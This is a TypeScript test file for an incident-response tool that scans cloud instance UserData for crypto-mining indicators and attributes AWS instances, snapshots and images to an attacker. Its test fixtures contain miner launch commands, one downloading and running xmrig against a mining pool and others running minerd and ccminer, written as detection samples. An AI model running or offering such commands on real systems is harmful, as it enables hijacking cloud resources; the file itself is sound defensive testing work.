import { attribute } from '../../../tooling/analysis/attribution';
import { derivedManualSteps } from '../../../tooling/analysis/report-manual';
import { inspectUserData } from '../../../tooling/analysis/userdata';
import type { InstanceRecord, RegionalResource } from '../../../tooling/model';

const b64 = (s: string) => Buffer.from(s).toString('base64');

describe('inspectUserData', () => {
  test.each([
    { name: 'xmrig with a stratum pool', script: 'wget x/xmrig && ./xmrig -o stratum+tcp://pool.minexmr.com:4444', expected: ['xmrig (xmrig)', 'stratum URL (stratum+tcp://)', 'mining pool host (pool.minexmr.com)', 'mining pool port (:4444)'] },
    { name: 'minerd', script: 'nohup ./minerd -a cryptonight &', expected: ['minerd (minerd)'] },
    { name: 'benign cloud-init', script: '#cloud-config\npackages: [nginx]\nruncmd: [systemctl start nginx]\n', expected: [] },
    { name: 'a bare number is not a pool port', script: 'echo 3333 > /tmp/count', expected: [] },
  ])('$name', ({ script, expected }) => {
    const result = inspectUserData(b64(script));
    expect(result.text).toBe(script);
    expect(result.indicators).toEqual(expected);
  });

  test('no UserData', () => expect(inspectUserData(undefined)).toEqual({ indicators: [], poolEndpoints: [] }));

  test.each([
    { name: 'a stratum URL', script: './xmrig -o stratum+tcp://pool.minexmr.com:4444 -u x', expected: ['pool.minexmr.com:4444'] },
    { name: "a miner's -o with a pool port", script: '/tmp/x -o 198.51.100.23:3333', expected: ['198.51.100.23:3333'] },
    { name: 'a pool-like host on an unusual port', script: 'ccminer --url=xmr.example.net:9000', expected: ['xmr.example.net:9000'] },
    { name: 'a plain web download is no pool', script: 'curl -s http://mirror.example.com:8080/pkg.tgz | tar xz', expected: [] },
  ])('pool endpoints: $name', ({ script, expected }) => expect(inspectUserData(b64(script)).poolEndpoints).toEqual(expected));
});

describe('attribute (no CloudTrail events: heuristics only)', () => {
  const window = { start: new Date('2026-11-20T07:00:00Z'), end: new Date('2026-11-20T12:00:00Z') };
  const instance = (id: string, launchTime: string, keyName?: string, extra: Partial<InstanceRecord> = {}): InstanceRecord => ({
    region: 'us-east-1', instanceId: id, state: 'running', instanceType: 'c5.large', launchTime, keyName, networkInterfaces: [], volumeIds: [], tags: {}, ...extra,
  });
  const key = (id: string, name: string, createdAt: string): RegionalResource => ({ region: 'us-east-1', id, name, createdAt });
  const base = { window, images: [], snapshots: [], spotRequests: [], fleets: [], iamUsers: [], events: [] };

  test.each([
    { name: 'in window with the new key pair: attributed', inst: instance('i-1', '2026-11-20T08:00:00Z', 'miner'), expected: true },
    { name: 'in window with an old key pair: not attributed', inst: instance('i-2', '2026-11-20T08:00:00Z', 'ops'), expected: false },
    { name: 'in window without a key pair: not attributed', inst: instance('i-3', '2026-11-20T08:00:00Z'), expected: false },
    { name: 'before the window with the new key name: not attributed', inst: instance('i-4', '2026-11-19T08:00:00Z', 'miner'), expected: false },
    { name: 'same key name in another region is another key pair', inst: instance('i-5', '2026-11-20T08:00:00Z', 'miner', { region: 'eu-west-1' }), expected: false },
  ])('$name', ({ inst, expected }) => {
    const marks = attribute({ ...base, instances: [inst], keyPairs: [key('key-new', 'miner', '2026-11-20T07:10:00Z'), key('key-old', 'ops', '2026-01-01T00:00:00Z')] });
    expect(marks.some((m) => m.kind === 'instance' && m.id === inst.instanceId)).toBe(expected);
    expect(marks.some((m) => m.id === 'key-old')).toBe(false);
  });

  test('a snapshot of an attacker instance and the image made from it follow the instance', () => {
    const marks = attribute({
      ...base,
      instances: [instance('i-1', '2026-11-20T08:00:00Z', 'miner', { volumeIds: ['vol-1'] }), instance('i-9', '2026-01-01T00:00:00Z', 'ops', { volumeIds: ['vol-9'] })],
      keyPairs: [key('key-new', 'miner', '2026-11-20T07:10:00Z')],
      snapshots: [
        { region: 'us-east-1', id: 'snap-img', createdAt: '2026-11-20T09:00:00Z', details: { volumeId: 'vol-x', description: 'Created by CreateImage(i-1) for ami-1' } },
        { region: 'us-east-1', id: 'snap-vol', createdAt: '2026-11-20T09:00:00Z', details: { volumeId: 'vol-1' } },
        { region: 'us-east-1', id: 'snap-ctl', createdAt: '2026-11-20T09:00:00Z', details: { volumeId: 'vol-9' } },
      ],
      images: [{ region: 'us-east-1', id: 'ami-1', createdAt: '2026-11-20T09:00:00Z', details: { snapshotIds: 'snap-img' } }],
    });
    expect(marks.filter((m) => m.kind === 'snapshot').map((m) => m.id).sort()).toEqual(['snap-img', 'snap-vol']);
    expect(marks.filter((m) => m.kind === 'image').map((m) => m.id)).toEqual(['ami-1']);
  });
});

describe('irctl evidence snapshots are not attacker resources', () => {
  const window = { start: new Date('2026-11-20T07:00:00Z'), end: new Date('2026-11-20T12:00:00Z') };
  const miner: InstanceRecord = { region: 'us-east-1', instanceId: 'i-1', state: 'running', instanceType: 'c5.large', launchTime: '2026-11-20T08:00:00Z', keyName: 'miner', networkInterfaces: [], volumeIds: ['vol-1'], tags: {} };
  const snapshot = (id: string, details: Record<string, string>): RegionalResource => ({ region: 'us-east-1', id, createdAt: '2026-11-20T09:00:00Z', details: { volumeId: 'vol-1', ...details } });
  test.each([
    { name: 'a snapshot of an attacker volume taken in the window: attributed', snap: snapshot('snap-a', {}), expected: true },
    { name: 'the same snapshot tagged with this case (its irctl evidence): not attributed', snap: snapshot('snap-b', { irctlCase: 'IR-2026-0042' }), expected: false },
    { name: "tagged with another case (another case's evidence, or a forged tag): still attributed", snap: snapshot('snap-c', { irctlCase: 'IR-2025-0007' }), expected: true },
  ])('$name', ({ snap, expected }) => {
    const marks = attribute({ caseId: 'IR-2026-0042', window, instances: [miner], keyPairs: [{ region: 'us-east-1', id: 'key-new', name: 'miner', createdAt: '2026-11-20T07:10:00Z' }], images: [], snapshots: [snap], spotRequests: [], fleets: [], iamUsers: [], events: [] });
    expect(marks.some((m) => m.kind === 'snapshot' && m.id === snap.id)).toBe(expected);
  });

  test('a snapshot journaled on two runs gives one hand-off line', () => {
    const entry = (seq: number, outcome: 'applied' | 'skipped-already-done') =>
      ({ seq, ts: '2026-11-23T03:00:00Z', caseId: 'C', caller: 'x', step: 'contain-instances/snapshot', action: 'ec2:CreateSnapshot', region: 'us-east-1', target: 'vol-1', request: {}, response: { SnapshotId: 'snap-1' }, outcome, reversible: false, prevHash: '', hash: '' }) as const;
    const lines = derivedManualSteps({ journal: [entry(1, 'applied'), entry(2, 'skipped-already-done')] });
    expect(lines.filter((l) => l.startsWith('Hand snap-1'))).toHaveLength(1);
    expect(new Set(lines).size).toBe(lines.length);
  });
});
